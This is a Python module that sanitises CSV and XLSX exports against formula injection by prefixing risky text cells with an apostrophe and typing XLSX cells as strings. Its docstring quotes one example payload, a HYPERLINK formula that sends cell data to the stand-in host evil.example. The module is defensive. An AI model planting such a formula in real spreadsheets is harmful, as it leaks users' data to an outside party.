"""Every CSV and XLSX the product writes goes through here, so text is never taken for a formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage
return before one) as a formula: a comment like ``=HYPERLINK("http://evil.example/?x="&A1,"Bấm")``
in the feedback export would become a live link that sends the sheet's data away. So:

- CSV: a text cell that starts with one of those characters gets a leading apostrophe, the
  convention spreadsheet programs show as "this is text" (OWASP's CSV-injection advice). A lone
  ``-`` (an empty deadline) stays as it is; numbers are written as numbers.
- XLSX: every text cell is stored with the string type, so it is never a formula whatever it
  starts with (openpyxl would otherwise store ``=…`` as a formula).

CSV files carry a UTF-8 BOM so spreadsheet programs read Vietnamese correctly. Used by the feedback
export (``rag feedback export``), the agency view's download and the evaluation exports.
"""
from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet will show it but never run it (numbers and None pass through)."""
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.startswith(FORMULA_START) and text != "-":
        return "'" + text
    return text


def csv_text(headers: Sequence[str] | None, rows: Iterable[Sequence]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf)
    if headers is not None:
        writer.writerow([safe_cell(h) for h in headers])
    for row in rows:
        writer.writerow(["" if v is None else safe_cell(v) for v in row])
    return buf.getvalue()


def csv_bytes(headers: Sequence[str] | None, rows: Iterable[Sequence]) -> bytes:
    """The CSV as UTF-8 with a BOM (what Excel needs to read Vietnamese)."""
    return csv_text(headers, rows).encode("utf-8-sig")


def new_workbook():
    """An empty openpyxl workbook (its first sheet is ``book.active``); fill it with ``append_row``."""
    from openpyxl import Workbook

    return Workbook()


def append_row(sheet, values: Sequence, bold: bool = False, wrap: bool = True) -> None:
    """Append ``values`` to an openpyxl sheet, text typed as text (never a formula)."""
    from openpyxl.styles import Alignment, Font

    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
        if wrap:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
        if bold:
            cell.font = Font(bold=True)


def workbook_bytes(book) -> bytes:
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def write_atomic(path: Path, data: bytes | str) -> Path:
    """Write to a temporary file beside ``path``, then rename: an interrupted write leaves the old file.
    Text is written as UTF-8 with a BOM (for CSV)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", dir=path.parent)
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(data.encode("utf-8-sig") if isinstance(data, str) else data)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return path
